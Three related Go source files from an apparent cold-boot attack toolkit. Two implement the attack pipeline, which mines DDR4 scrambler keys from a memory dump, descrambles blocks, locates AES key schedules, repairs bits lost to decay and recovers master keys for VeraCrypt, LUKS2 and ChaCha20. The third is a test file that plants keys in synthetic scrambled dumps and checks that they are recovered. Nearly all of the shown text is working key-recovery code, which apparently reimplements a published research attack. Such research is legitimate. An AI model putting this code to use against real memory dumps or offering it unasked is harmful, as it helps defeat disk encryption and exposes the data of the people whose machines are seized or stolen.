// memoStore records a completed outcome, copying final out of scratch.
func (run *AttackRun) memoStore(master []byte, start int, final []byte, score float64) {
	o := &verifyOutcome{start: start, final: append([]byte{}, final...), score: score}
	run.memoMu.Lock()
	head := run.memo[string(master)]
	for h := head; h != nil; h = h.next {
		if h.start == start { // another worker beat us to it
			run.memoMu.Unlock()
			return
		}
	}
	o.next = head
	//lint:ignore keyflow memo needs a comparable key; the []byte finals are wiped by run.wipe
	run.memo[string(master)] = o
	run.memoMu.Unlock()
}

// wipe zeroes the run's private key-bearing state: the memoized
// verify→refine finals. The FoundKey masters in Res are separate copies
// owned by the caller and are left intact.
func (run *AttackRun) wipe() {
	run.memoMu.Lock()
	for _, o := range run.memo {
		for h := o; h != nil; h = h.next {
			secret.Wipe(h.final)
		}
	}
	clear(run.memo)
	run.memoMu.Unlock()
}

// skipBlock reports whether block b is a known zero-data block.
func (run *AttackRun) skipBlock(b int) bool {
	return run.skip[b>>6]&(1<<uint(b&63)) != 0
}

// AttackStages returns the attack pipeline in execution order:
// mine → directory → hunt → assemble.
func AttackStages() []Stage {
	return []Stage{mineStage{}, directoryStage{}, huntStage{}, assembleStage{}}
}

// Attack runs the complete DDR4 cold boot attack on a scrambled memory
// dump: mine scrambler keys, locate AES key schedules, and recover master
// keys. The dump may be single- or double-scrambled (victim-only, or victim
// XOR attacker keystream — the litmus invariants survive both) and may
// contain bit decay.
func Attack(dump []byte, cfg Config) (*Result, error) {
	return AttackContext(context.Background(), dump, cfg)
}

// AttackContext is Attack with cancellation: every long loop (the mining
// scan and each hunt worker) checks ctx at least once per scan chunk, so a
// cancelled attack stops mid-scan within one chunk of work. On
// cancellation the partial Result assembled from the work already done is
// returned together with ctx.Err().
func AttackContext(ctx context.Context, dump []byte, cfg Config) (*Result, error) {
	privateCache := cfg.ScheduleCache == nil
	cfg = cfg.withDefaults()
	if privateCache {
		// The defaulted cache is this run's alone: no caller can hold its
		// schedules, so retire the key material with the run.
		defer cfg.ScheduleCache.Wipe()
	}
	if len(dump)%BlockBytes != 0 {
		return nil, fmt.Errorf("core: dump length %d not block aligned", len(dump))
	}
	if cfg.GroundDump != nil && len(cfg.GroundDump) != len(dump) {
		return nil, fmt.Errorf("core: ground dump length %d != dump length %d", len(cfg.GroundDump), len(dump))
	}
	rf, err := resolveFormats(cfg.Formats)
	if err != nil {
		return nil, err
	}

	run := &AttackRun{
		Dump:      dump,
		Cfg:       cfg,
		Res:       &Result{BlocksScanned: len(dump) / BlockBytes},
		tracer:    obs.OrNop(cfg.Tracer),
		schedules: cfg.ScheduleCache,
		memo:      make(map[string]*verifyOutcome),
		rf:        rf,
		found:     make(map[string]*FoundKey),
		foundF:    make(map[string]*FoundKey),
		volumes:   make(map[int]format.Volume),
	}
	defer run.wipe()
	attrs := []obs.Attr{
		obs.A("blocks", strconv.Itoa(len(dump)/BlockBytes)),
		obs.A("variant", cfg.Variant.String()),
	}
	if cfg.Span != nil {
		run.span = cfg.Span.Child("attack", attrs...)
	} else {
		run.span = run.tracer.StartSpan("attack", attrs...)
	}
	defer run.span.End()
	for _, st := range AttackStages() {
		if err := ctx.Err(); err != nil {
			assembleKeys(run)
			return run.Res, err
		}
		stageSpan := run.span.Child(st.Name())
		run.stage = stageSpan
		err := st.Run(ctx, run)
		stageSpan.End()
		if err != nil {
			// Finalize whatever candidates the interrupted stage left so a
			// cancelled attack still surfaces its partial findings.
			assembleKeys(run)
			return run.Res, err
		}
	}
	run.span.SetAttr("keys", strconv.Itoa(len(run.Res.Keys)))
	return run.Res, nil
}

// mineStage recovers the scrambler key pool (paper step 1: the
// scrambler-key litmus test over every block).
type mineStage struct{}

func (mineStage) Name() string { return "mine" }

func (mineStage) Run(ctx context.Context, run *AttackRun) error {
	if pre := run.Cfg.Mine; pre != nil {
		run.Mine = pre
		run.Res.Mine = pre
		run.tracer.Count("mine.blocks_scanned", int64(pre.BlocksScanned))
		run.tracer.Count("mine.blocks_passed", int64(pre.BlocksPassed))
		run.tracer.Count("mine.keys", int64(len(pre.Keys)))
		return nil
	}
	mine, err := MineKeysContext(ctx, run.Dump, MineOptions{
		Tolerance:     run.Cfg.LitmusTolerance,
		MergeDistance: run.Cfg.MergeDistance,
		MaxBytes:      run.Cfg.MineMaxBytes,
	})
	run.Mine = mine
	run.Res.Mine = mine
	if mine != nil {
		run.tracer.Count("mine.blocks_scanned", int64(mine.BlocksScanned))
		run.tracer.Count("mine.blocks_passed", int64(mine.BlocksPassed))
		run.tracer.Count("mine.keys", int64(len(mine.Keys)))
	}
	return err
}

// directoryStage infers the key-reuse stride and builds the per-block
// candidate key directory (paper step 2's address-class table), plus the
// zero-block skip set.
type directoryStage struct{}

func (directoryStage) Name() string { return "directory" }

func (directoryStage) Run(ctx context.Context, run *AttackRun) error {
	mine := run.Mine
	run.Directory = run.Cfg.KeysForBlock
	if run.Directory == nil {
		run.Res.Stride = mine.InferStride()
		if run.Cfg.Exhaustive || run.Res.Stride == 0 {
			run.Directory = AllKeysDirectory(mine)
		} else {
			run.Res.Coverage = mine.Coverage(run.Res.Stride)
			run.Directory = ResidueDirectory(mine, run.Res.Stride)
		}
	}
	// Zero-data blocks are exactly the mined-key sightings: skip them (they
	// cannot contain schedules, and their degenerate windows waste time).
	nBlocks := len(run.Dump) / BlockBytes
	run.skip = make([]uint64, (nBlocks+63)/64)
	for _, k := range mine.Keys {
		for _, p := range k.Positions {
			if p >= 0 && p < nBlocks {
				run.skip[p>>6] |= 1 << uint(p&63)
			}
		}
	}
	return nil
}

// Decayed zero blocks can fail the exact-tolerance litmus and evade the
// mined-position skip; they are still recognizable as approximate
// keystream (litmus distance far below random's ~128 expected bits).
const zeroBlockSkipDistance = 48

// scanCancelChunkBlocks is the hunt's cancellation granularity: each worker
// polls ctx (and reports progress) every this many blocks — 16 KiB of
// dump, a sub-millisecond unit of work even on the exhaustive path.
const scanCancelChunkBlocks = 256

// huntStage is the expensive middle of the attack (paper steps 2-4):
// descramble every candidate (block, key) pair, AES-litmus the result,
// and verify/repair/refine anchors into candidate master keys.
type huntStage struct{}

func (huntStage) Name() string { return "hunt" }

func (huntStage) Run(ctx context.Context, run *AttackRun) error {
	cfg := run.Cfg
	dump := run.Dump
	nBlocks := len(dump) / BlockBytes
	nk := cfg.Variant.Nk()

	var pairs, hits int64
	var done atomic.Int64
	var cancelled atomic.Bool

	var wg sync.WaitGroup
	chunk := (nBlocks + cfg.Workers - 1) / cfg.Workers
	for w := 0; w < cfg.Workers; w++ {
		lo, hi := w*chunk, (w+1)*chunk
		if hi > nBlocks {
			hi = nBlocks
		}
		if lo >= hi {
			continue
		}
		wg.Add(1)
		go func(lo, hi int) {
			defer wg.Done()
			ws := run.stage.Child("hunt.worker",
				obs.A("blocks", strconv.Itoa(lo)+"-"+strconv.Itoa(hi)),
				obs.A("offset", "0x"+strconv.FormatInt(int64(lo)*BlockBytes, 16)+"-0x"+strconv.FormatInt(int64(hi)*BlockBytes, 16)))
			defer ws.End()
			// All per-candidate buffers live on the worker's scratch: the
			// steady-state scan allocates nothing per block or candidate.
			sc := new(huntScratch)
			defer sc.wipe()
			probers := run.rf.probers
			var view *descrambleView
			var emitFinding func(format.Finding)
			if len(probers) > 0 {
				// One view + one emit closure per worker, hoisted out of the
				// scan so the prober path stays allocation-free per block.
				view = &descrambleView{data: dump, directory: run.Directory}
				emitFinding = func(f format.Finding) { run.recordFinding(f) }
			}
			var localPairs, localHits int64
			lastCheck := lo
			chunkStart := obs.Now()
			for b := lo; b < hi; b++ {
				if b-lastCheck >= scanCancelChunkBlocks {
					n := done.Add(int64(b - lastCheck))
					lastCheck = b
					if ctx.Err() != nil {
						cancelled.Store(true)
					}
					run.tracer.Progress("hunt", n, int64(nBlocks))
					run.tracer.Observe("hunt.chunk_ns", obs.Since(chunkStart))
					chunkStart = obs.Now()
				}
				if cancelled.Load() {
					break
				}
				if run.skipBlock(b) {
					continue
				}
				stored := dump[b*BlockBytes : (b+1)*BlockBytes]
				if KeyLitmusDistance(stored) <= zeroBlockSkipDistance {
					continue // decayed zero block: approximate keystream
				}
				for _, key := range run.Directory(b) {
					localPairs++
					bitutil.XORBlock64(sc.descrambled[:], stored, key)
					// Every enabled format probes the same descrambled block:
					// one descramble, N hunts.
					for _, p := range probers {
						view.curBlock = b
						view.curDescrambled = sc.descrambled[:]
						p.ProbeBlock(sc.descrambled[:], b*BlockBytes, view, cfg.AESTolerance, emitFinding)
					}
					if !run.rf.aes {
						continue
					}
					words := aes.BytesToWordsInto(sc.words[:0], sc.descrambled[:])
					sc.hits = aesLitmusWords(words, cfg.Variant, cfg.AESTolerance, sc.hits[:0])
					localHits += int64(len(sc.hits))
					// Single-flip repair is cheap (prediction-prefiltered), so
					// every failing hit may try it; the quadratic double-flip
					// and cubic ground-state searches are rationed per
					// (block, key) pair.
					doubleRepairsLeft := 4
					groundRepairsLeft := 4
					for _, hit := range sc.hits {
						if windowDegenerateWords(words, hit, nk) {
							continue
						}
						start := hit.TableStart(b)
						if start < 0 || start+cfg.Variant.ScheduleBytes() > len(dump) {
							continue
						}
						master := aes.RecoverMasterKeyInto(sc.master[:0],
							words[hit.WordOffset:hit.WordOffset+nk], hit.ScheduleIndex, cfg.Variant)
						if o := run.memoLookup(master, start); o != nil {
							// Re-sighted anchor of an already-completed
							// verification: replay the recorded outcome.
							run.record(o.final, o.start, o.score, cfg.Variant)
							continue
						}
						verifyStart := obs.Now()
						// Almost every candidate master is garbage derived from
						// application data and will never be sighted again, so
						// the miss path expands into scratch (no allocation, no
						// cache churn); verified masters are promoted below.
						sched, cached := run.schedules.Lookup(master)
						if !cached {
							sched = aes.ExpandKeyBytesInto(sc.repair.sched[:0], master)
						}
						score := scheduleScore(dump, run.Directory, sched, start)
						run.tracer.Observe("hunt.verify_ns", obs.Since(verifyStart))
						initialVerified := score >= cfg.MinVerifyScore
						if initialVerified && !cached {
							run.schedules.Insert(master, sched)
						}
						if score < cfg.MinVerifyScore && cfg.GroundDump != nil && groundRepairsLeft > 0 {
							groundRepairsLeft--
							master, score = repairWindowGroundScratch(&sc.repair, dump, cfg.GroundDump,
								run.Directory, sc.descrambled[:], b, hit, cfg.Variant, 3, cfg.MinVerifyScore)
						} else if score < cfg.MinVerifyScore && cfg.RepairFlips > 0 {
							flips := 1
							if cfg.RepairFlips >= 2 && doubleRepairsLeft > 0 {
								doubleRepairsLeft--
								flips = cfg.RepairFlips
							}
							master, score = repairWindowScratch(&sc.repair, dump, run.Directory,
								sc.descrambled[:], b, hit, cfg.Variant, flips, cfg.MinVerifyScore)
						}
						if score >= cfg.MinVerifyScore {
							// Correct residual linear-chain bit errors via
							// schedule-redundancy majority voting before
							// accepting the key. The refined master aliases
							// scratch; record and memoStore copy it out.
							final, finalScore := refineMasterScratch(&sc.repair, dump, run.Directory,
								master, start, cfg.Variant)
							if initialVerified {
								// master was untouched by the repair paths
								// (sc.master, disjoint from sc.repair): safe to
								// memoize the deterministic verify→refine flow.
								run.memoStore(master, start, final, finalScore)
							}
							run.record(final, start, finalScore, cfg.Variant)
						}
					}
				}
			}
			run.mu.Lock()
			pairs += localPairs
			hits += localHits
			run.mu.Unlock()
		}(lo, hi)
	}
	wg.Wait()
	run.Res.PairsTested = pairs
	run.tracer.Count("hunt.pairs_tested", pairs)
	run.tracer.Count("hunt.schedule_hits", hits)
	run.mu.Lock()
	candidates := int64(len(run.found))
	run.mu.Unlock()
	run.tracer.Count("hunt.candidates", candidates)
	run.tracer.Progress("hunt", done.Load(), int64(nBlocks))
	if cancelled.Load() {
		return ctx.Err()
	}
	return nil
}

// record registers a candidate master sighted at start with the given
// verification score, merging repeat sightings into anchor counts.
func (run *AttackRun) record(master []byte, start int, score float64, v aes.Variant) {
	run.mu.Lock()
	defer run.mu.Unlock()
	//lint:ignore keyflow found-map keys back the FoundKey results handed to the caller
	k := string(master)
	if f, ok := run.found[k]; ok {
		f.Anchors++
		if score > f.Score {
			f.Score = score
			f.TableStart = start
		}
		return
	}
	run.found[k] = &FoundKey{
		Master:     append([]byte{}, master...),
		Variant:    v,
		TableStart: start,
		Score:      score,
		Anchors:    1,
	}
}

// assembleStage ranks the hunt's candidates and suppresses shift-family
// aliases into the final key list.
type assembleStage struct{}

func (assembleStage) Name() string { return "assemble" }

func (assembleStage) Run(ctx context.Context, run *AttackRun) error {
	assembleKeys(run)
	run.tracer.Count("assemble.keys", int64(len(run.Res.Keys)))
	if !run.Cfg.skipFormatFilter {
		emitFormatCounts(run.tracer, run.rf, run.Res)
	}
	return nil
}

// assembleKeys sorts the candidate keys best-first and greedily suppresses
// shift-family aliases: a window anchored at the wrong schedule index (off
// by a multiple of the Nk period) yields a "master" whose expansion is the
// true schedule shifted a few words — it still verifies at ~0.9 because
// most of its range overlaps the real table. The best-scoring candidate
// per overlapping region is kept; the true master always scores strictly
// higher than its shifts. Alias suppression is per format (a ChaCha state
// inside an AES schedule's shadow is not an alias of it), after which the
// LUKS2 pair rule re-tags adjacent schedule pairs — adjacency is distance
// == schedBytes, i.e. ZERO overlap, so pairs always survive suppression —
// and keys of formats the attack was not asked for are dropped.
func assembleKeys(run *AttackRun) {
	// All stages have finished (or been cancelled) by assembly time, but
	// taking mu keeps the guarded-field contract checkable.
	run.mu.Lock()
	defer run.mu.Unlock()
	candidates := make([]FoundKey, 0, len(run.found)+len(run.foundF))
	for _, f := range run.found {
		c := *f
		c.Format = FormatAESXTS
		candidates = append(candidates, c)
	}
	for _, f := range run.foundF {
		candidates = append(candidates, *f)
	}
	sortFoundKeys(candidates)
	schedBytes := run.Cfg.Variant.ScheduleBytes()
	run.Res.Keys = suppressAliases(candidates, schedBytes)
	run.Res.Volumes = sortedVolumes(run.volumes)
	if !run.Cfg.skipFormatFilter {
		// Shard attacks leave keys untagged/unfiltered: a pair straddling a
		// shard boundary (or a header sighted in another shard) can only be
		// resolved after the campaign merge.
		if run.rf.luks2 {
			tagLUKS2(run.Res.Keys, run.Res.Volumes, schedBytes)
		}
		run.Res.Keys = filterFormats(run.Res.Keys, run.rf)
	}
}

// sortFoundKeys orders candidates best-first with a full deterministic
// tie-break (score desc, then table start, master bytes, format).
func sortFoundKeys(keys []FoundKey) {
	sort.Slice(keys, func(i, j int) bool {
		if keys[i].Score != keys[j].Score {
			return keys[i].Score > keys[j].Score
		}
		if keys[i].TableStart != keys[j].TableStart {
			return keys[i].TableStart < keys[j].TableStart
		}
		if c := bytes.Compare(keys[i].Master, keys[j].Master); c != 0 {
			return c < 0
		}
		return keys[i].Format < keys[j].Format
	})
}

// suppressAliases greedily keeps the best-scoring candidate per
// overlapping same-format region. candidates must already be sorted
// best-first.
func suppressAliases(candidates []FoundKey, schedBytes int) []FoundKey {
	var out []FoundKey
	for _, c := range candidates {
		w := formatWidth(c.Format, schedBytes)
		alias := false
		for _, kept := range out {
			if kept.Format != c.Format {
				continue
			}
			lo, hi := c.TableStart, c.TableStart+w
			if kept.TableStart > lo {
				lo = kept.TableStart
			}
			if kept.TableStart+w < hi {
				hi = kept.TableStart + w
			}
			if hi-lo >= w/2 {
				alias = true
				break
			}
		}
		if !alias {
			out = append(out, c)
		}
	}
	return out
}

// Masters returns just the recovered master keys, best first.
func (r *Result) Masters() [][]byte {
	out := make([][]byte, len(r.Keys))
	for i, k := range r.Keys {
		out[i] = k.Master
	}
	return out
}
