package core

import (
	"fmt"
	"runtime"
	"sort"
	"sync"

	"coldboot/internal/aes"
	"coldboot/internal/bitutil"
)

// Config tunes the full attack pipeline.
type Config struct {
	// Variant is the AES key size hunted for (default AES256, the
	// VeraCrypt/TrueCrypt case).
	Variant aes.Variant
	// LitmusTolerance is the scrambler-key litmus bit budget.
	LitmusTolerance int
	// AESTolerance is the schedule-prediction compare bit budget.
	AESTolerance int
	// MergeDistance merges decayed key sightings (see MineOptions).
	MergeDistance int
	// MineMaxBytes bounds the mining pass (0 = whole dump). The paper
	// mined all keys from under 16 MB.
	MineMaxBytes int
	// MinVerifyScore accepts a candidate master whose full-schedule match
	// fraction reaches this value (default 0.80; correct keys score ~1.0,
	// wrong ones ~0.5).
	MinVerifyScore float64
	// Exhaustive forces trying every mined key on every block (the paper's
	// literal step 2) instead of the stride-inferred per-address-class
	// directory. Much slower; used for validation on small dumps.
	Exhaustive bool
	// RepairFlips enables window repair of decayed anchors (0 = off,
	// 1 = single-bit, 2 = double-bit).
	RepairFlips int
	// GroundDump, when non-nil (same length as the dump), enables
	// ground-state-aware repair: a second dump of the same DIMM taken
	// after full decay WITHOUT rebooting (the keystream cancels in the
	// comparison), restricting repair to bits that could physically have
	// decayed and affording a deeper (3-flip) search. See groundrepair.go.
	GroundDump []byte
	// Workers is the scan parallelism. Zero (the zero value) means one
	// worker per CPU — callers never need to set it.
	Workers int
	// KeysForBlock, when non-nil, overrides the key directory entirely
	// (used by tests and by attacks with out-of-band key knowledge).
	KeysForBlock KeyDirectory
}

func (c Config) withDefaults() Config {
	if c.Variant == 0 {
		c.Variant = aes.AES256
	}
	if c.LitmusTolerance == 0 {
		c.LitmusTolerance = DefaultLitmusTolerance
	}
	if c.AESTolerance == 0 {
		c.AESTolerance = DefaultAESTolerance
	}
	if c.MinVerifyScore == 0 {
		c.MinVerifyScore = 0.80
	}
	if c.Workers <= 0 {
		c.Workers = runtime.NumCPU()
	}
	return c
}

// FoundKey is one recovered AES master key.
type FoundKey struct {
	Master     []byte
	Variant    aes.Variant
	TableStart int     // dump byte offset of the in-memory key schedule
	Score      float64 // full-schedule verification match fraction
	Anchors    int     // number of independent anchor hits that agreed
}

// Result is the attack's full output.
type Result struct {
	Mine          *MineResult
	Stride        int     // inferred key-reuse period in blocks (0 = none)
	Coverage      float64 // fraction of address classes with a mined key
	BlocksScanned int
	PairsTested   int64 // (block, key) combinations examined
	Keys          []FoundKey
}

// Attack runs the complete DDR4 cold boot attack on a scrambled memory
// dump: mine scrambler keys, locate AES key schedules, and recover master
// keys. The dump may be single- or double-scrambled (victim-only, or victim
// XOR attacker keystream — the litmus invariants survive both) and may
// contain bit decay.
func Attack(dump []byte, cfg Config) (*Result, error) {
	cfg = cfg.withDefaults()
	if len(dump)%BlockBytes != 0 {
		return nil, fmt.Errorf("core: dump length %d not block aligned", len(dump))
	}

	if cfg.GroundDump != nil && len(cfg.GroundDump) != len(dump) {
		return nil, fmt.Errorf("core: ground dump length %d != dump length %d", len(cfg.GroundDump), len(dump))
	}
	mine, err := MineKeys(dump, MineOptions{
		Tolerance:     cfg.LitmusTolerance,
		MergeDistance: cfg.MergeDistance,
		MaxBytes:      cfg.MineMaxBytes,
	})
	if err != nil {
		return nil, err
	}
	res := &Result{Mine: mine, BlocksScanned: len(dump) / BlockBytes}

	directory := cfg.KeysForBlock
	if directory == nil {
		res.Stride = mine.InferStride()
		if cfg.Exhaustive || res.Stride == 0 {
			directory = AllKeysDirectory(mine)
		} else {
			res.Coverage = mine.Coverage(res.Stride)
			directory = ResidueDirectory(mine, res.Stride)
		}
	}

	// Zero-data blocks are exactly the mined-key sightings: skip them (they
	// cannot contain schedules, and their degenerate windows waste time).
	skip := make(map[int]bool)
	for _, k := range mine.Keys {
		for _, p := range k.Positions {
			skip[p] = true
		}
	}
	// Decayed zero blocks can fail the exact-tolerance litmus and evade the
	// mined-position skip; they are still recognizable as approximate
	// keystream (litmus distance far below random's ~128 expected bits).
	const zeroBlockSkipDistance = 48

	type candidate struct {
		master  string
		start   int
		score   float64
		anchors int
	}
	nBlocks := len(dump) / BlockBytes
	nk := cfg.Variant.Nk()

	var mu sync.Mutex
	var pairs int64
	found := make(map[string]*FoundKey)
	record := func(master []byte, start int, score float64) {
		mu.Lock()
		defer mu.Unlock()
		k := string(master)
		if f, ok := found[k]; ok {
			f.Anchors++
			if score > f.Score {
				f.Score = score
				f.TableStart = start
			}
			return
		}
		found[k] = &FoundKey{
			Master:     append([]byte{}, master...),
			Variant:    cfg.Variant,
			TableStart: start,
			Score:      score,
			Anchors:    1,
		}
	}

	var wg sync.WaitGroup
	chunk := (nBlocks + cfg.Workers - 1) / cfg.Workers
	for w := 0; w < cfg.Workers; w++ {
		lo, hi := w*chunk, (w+1)*chunk
		if hi > nBlocks {
			hi = nBlocks
		}
		if lo >= hi {
			continue
		}
		wg.Add(1)
		go func(lo, hi int) {
			defer wg.Done()
			descrambled := make([]byte, BlockBytes)
			var localPairs int64
			for b := lo; b < hi; b++ {
				if skip[b] {
					continue
				}
				stored := dump[b*BlockBytes : (b+1)*BlockBytes]
				if KeyLitmusDistance(stored) <= zeroBlockSkipDistance {
					continue // decayed zero block: approximate keystream
				}
				for _, key := range directory(b) {
					localPairs++
					bitutil.XORBlock64(descrambled, stored, key)
					hits := AESLitmus(descrambled, cfg.Variant, cfg.AESTolerance)
					// Single-flip repair is cheap (prediction-prefiltered), so
					// every failing hit may try it; the quadratic double-flip
					// and cubic ground-state searches are rationed per
					// (block, key) pair.
					doubleRepairsLeft := 4
					groundRepairsLeft := 4
					for _, hit := range hits {
						if windowDegenerate(descrambled, hit, nk) {
							continue
						}
						start := hit.TableStart(b)
						if start < 0 || start+cfg.Variant.ScheduleBytes() > len(dump) {
							continue
						}
						master := MasterFromHit(descrambled, hit, cfg.Variant)
						score := VerifySchedule(dump, directory, master, start, cfg.Variant)
						if score < cfg.MinVerifyScore && cfg.GroundDump != nil && groundRepairsLeft > 0 {
							groundRepairsLeft--
							master, score = RepairWindowGround(dump, cfg.GroundDump, directory,
								descrambled, b, hit, cfg.Variant, 3, cfg.MinVerifyScore)
						} else if score < cfg.MinVerifyScore && cfg.RepairFlips > 0 {
							flips := 1
							if cfg.RepairFlips >= 2 && doubleRepairsLeft > 0 {
								doubleRepairsLeft--
								flips = cfg.RepairFlips
							}
							master, score = RepairWindow(dump, directory, descrambled, b, hit,
								cfg.Variant, flips, cfg.MinVerifyScore)
						}
						if score >= cfg.MinVerifyScore {
							// Correct residual linear-chain bit errors via
							// schedule-redundancy majority voting before
							// accepting the key.
							master, score = RefineMaster(dump, directory, master, start, cfg.Variant)
							record(master, start, score)
						}
					}
				}
			}
			mu.Lock()
			pairs += localPairs
			mu.Unlock()
		}(lo, hi)
	}
	wg.Wait()
	res.PairsTested = pairs

	candidates := make([]FoundKey, 0, len(found))
	for _, f := range found {
		candidates = append(candidates, *f)
	}
	sort.Slice(candidates, func(i, j int) bool {
		if candidates[i].Score != candidates[j].Score {
			return candidates[i].Score > candidates[j].Score
		}
		if candidates[i].TableStart != candidates[j].TableStart {
			return candidates[i].TableStart < candidates[j].TableStart
		}
		return string(candidates[i].Master) < string(candidates[j].Master)
	})
	// Suppress shift-family aliases: a window anchored at the wrong
	// schedule index (off by a multiple of the Nk period) yields a "master"
	// whose expansion is the true schedule shifted a few words — it still
	// verifies at ~0.9 because most of its range overlaps the real table.
	// Greedily keep the best-scoring candidate per overlapping region; the
	// true master always scores strictly higher than its shifts.
	schedBytes := cfg.Variant.ScheduleBytes()
	for _, c := range candidates {
		alias := false
		for _, kept := range res.Keys {
			lo, hi := c.TableStart, c.TableStart+schedBytes
			if kept.TableStart > lo {
				lo = kept.TableStart
			}
			if kept.TableStart+schedBytes < hi {
				hi = kept.TableStart + schedBytes
			}
			if hi-lo >= schedBytes/2 {
				alias = true
				break
			}
		}
		if !alias {
			res.Keys = append(res.Keys, c)
		}
	}
	return res, nil
}

// Masters returns just the recovered master keys, best first.
func (r *Result) Masters() [][]byte {
	out := make([][]byte, len(r.Keys))
	for i, k := range r.Keys {
		out[i] = k.Master
	}
	return out
}
