package core

import (
	"bytes"
	"context"
	"encoding/binary"
	"reflect"
	"testing"

	"coldboot/internal/aes"
	"coldboot/internal/chacha"
	"coldboot/internal/format"
	_ "coldboot/internal/format/all" // register every built-in scanner
	"coldboot/internal/format/luks2"
	"coldboot/internal/scramble"
	"coldboot/internal/workload"
)

// This file is the registry-enabled half of the parity suite: the blank
// format/all import above loads every scanner into the registry for the
// WHOLE core test binary, so the frozen-oracle comparisons in
// parity_test.go also run with probers live — proving the single-pass
// prober hook-in leaves the native AES pipeline byte-identical.

// TestRegistryAESOnlyParity: an attack restricted to Formats:{"aesxts"}
// over the full registry must reproduce the frozen pre-refactor pipeline
// exactly — same masters, scores, offsets, anchors — on the frozen-oracle
// fixtures.
func TestRegistryAESOnlyParity(t *testing.T) {
	if raceEnabled {
		t.Skip("serial differential oracle: nothing for the race detector")
	}
	scenarios := []struct {
		name  string
		build func(t *testing.T) ([]byte, Config)
	}{
		{"clean_scrambled_1MiB", func(t *testing.T) ([]byte, Config) {
			dump := buildAttackDump(t, 1<<20, 61, workload.LightSystem,
				testMaster(601, 32), 4096*BlockBytes+128)
			return dump, Config{Workers: 1}
		}},
		{"decay_repair1", func(t *testing.T) ([]byte, Config) {
			dump := buildAttackDump(t, 1<<20, 62, workload.LightSystem,
				testMaster(602, 32), 2048*BlockBytes)
			decayBits(dump, 620, len(dump)*8/2000)
			return dump, Config{Workers: 1, RepairFlips: 1}
		}},
		{"aes128_variant", func(t *testing.T) ([]byte, Config) {
			dump := buildAttackDump(t, 512<<10, 65, workload.LightSystem,
				testMaster(605, 16), 1000*BlockBytes)
			decayBits(dump, 650, len(dump)*8/4000)
			return dump, Config{Workers: 1, Variant: aes.AES128, RepairFlips: 1}
		}},
	}
	for _, sc := range scenarios {
		t.Run(sc.name, func(t *testing.T) {
			dump, cfg := sc.build(t)
			restricted := cfg
			restricted.Formats = []string{FormatAESXTS}
			got, err := AttackContext(context.Background(), dump, restricted)
			if err != nil {
				t.Fatal(err)
			}
			want := refAttack(dump, cfg)
			if got.PairsTested != want.PairsTested {
				t.Errorf("PairsTested: got %d, want %d", got.PairsTested, want.PairsTested)
			}
			if len(got.Volumes) != 0 {
				t.Errorf("aesxts-only attack reported volumes: %+v", got.Volumes)
			}
			if len(got.Keys) != len(want.Keys) {
				t.Fatalf("Keys: got %d, want %d", len(got.Keys), len(want.Keys))
			}
			for i := range want.Keys {
				g := got.Keys[i]
				if g.Format != FormatAESXTS {
					t.Errorf("key %d format: got %q, want %q", i, g.Format, FormatAESXTS)
				}
				g.Format, g.Volume = "", ""
				if !reflect.DeepEqual(g, want.Keys[i]) {
					t.Errorf("key %d differs:\n got  %+v\n want %+v", i, g, want.Keys[i])
				}
			}
		})
	}
}

// TestAESXTSScannerMatchesKeyfind: the whole-image aesxts scanner is the
// extracted keyfind scan — identical offsets, masters and distances.
func TestAESXTSScannerMatchesKeyfind(t *testing.T) {
	image := make([]byte, 256<<10)
	if err := workload.Fill(image, 77, workload.LightSystem); err != nil {
		t.Fatal(err)
	}
	master := testMaster(770, 32)
	sched := aes.ExpandKeyBytes(master)
	copy(image[100*BlockBytes+16:], sched)

	s, ok := format.Get(FormatAESXTS)
	if !ok {
		t.Fatal("aesxts not registered")
	}
	got, err := s.ScanContext(context.Background(), image, format.Config{Workers: 1})
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 {
		t.Fatalf("findings: got %d, want 1 (%+v)", len(got), got)
	}
	f := got[0]
	if f.Offset != 100*BlockBytes+16 || !bytes.Equal(f.Key, master) || f.Format != FormatAESXTS {
		t.Fatalf("finding mismatch: %+v", f)
	}
	if v := s.Verify(image, f); v < 0.999 {
		t.Fatalf("Verify = %f, want ~1.0", v)
	}
}

// multiFormatOffsets pins where buildMultiFormatDump plants each target.
const (
	mfVeraStart   = 1200*BlockBytes + 32  // lone VeraCrypt AES-256 schedule
	mfLUKSStart   = 9000*BlockBytes + 16  // dm-crypt XTS pair: data key…
	mfLUKSTweak   = mfLUKSStart + 240     // …tweak key schedule, adjacent
	mfHeaderStart = 20000 * BlockBytes    // page-cache copy of the LUKS2 header
	mfChaChaStart = 26000*BlockBytes + 16 // raw ChaCha20 state, word offset 4
	mfUUID        = "deadbeef-aaaa-bbbb-cccc-0123456789ab"
)

// buildMultiFormatDump builds one scrambled dump holding every supported
// target: a lone VeraCrypt schedule, a LUKS2 VMK schedule pair plus its
// volume header, and a raw ChaCha20 state.
func buildMultiFormatDump(t testing.TB, size int, seed int64, vera, luksData, luksTweak, chachaKey []byte) []byte {
	t.Helper()
	plain := make([]byte, size)
	if err := workload.Fill(plain, seed, workload.LightSystem); err != nil {
		t.Fatal(err)
	}
	copy(plain[mfVeraStart:], aes.ExpandKeyBytes(vera))
	copy(plain[mfLUKSStart:], aes.ExpandKeyBytes(luksData))
	copy(plain[mfLUKSTweak:], aes.ExpandKeyBytes(luksTweak))
	copy(plain[mfHeaderStart:], luks2.EncodeHeader(&luks2.Header{
		Primary:     true,
		Version:     2,
		HeaderSize:  16384,
		SeqID:       3,
		Label:       "vault",
		ChecksumAlg: "sha256",
		UUID:        mfUUID,
		Cipher:      "aes-xts-plain64",
		KeyBytes:    64,
	}))
	st := plain[mfChaChaStart : mfChaChaStart+64]
	for i, w := range chacha.Sigma() {
		binary.LittleEndian.PutUint32(st[4*i:], w)
	}
	copy(st[16:48], chachaKey)
	binary.LittleEndian.PutUint32(st[48:], 9)                 // block counter
	copy(st[52:], []byte{7, 7, 7, 7, 8, 8, 8, 8, 9, 9, 9, 9}) // nonce
	s := scramble.NewSkylakeDDR4(uint64(seed)*31 + 7)
	dump := make([]byte, size)
	s.Scramble(dump, plain, 0)
	return dump
}

// keyByFormat indexes a result's keys by format tag.
func keyByFormat(keys []FoundKey) map[string][]FoundKey {
	out := make(map[string][]FoundKey)
	for _, k := range keys {
		out[k.Format] = append(out[k.Format], k)
	}
	return out
}

// TestAttackMultiFormatSinglePass is the tentpole acceptance at the core
// layer: one attack over one scrambled+decayed dump recovers the VeraCrypt
// master, both LUKS2 VMK halves (tagged with the header's UUID), and the
// ChaCha20 key — each finding tagged with its format — in a single pass.
func TestAttackMultiFormatSinglePass(t *testing.T) {
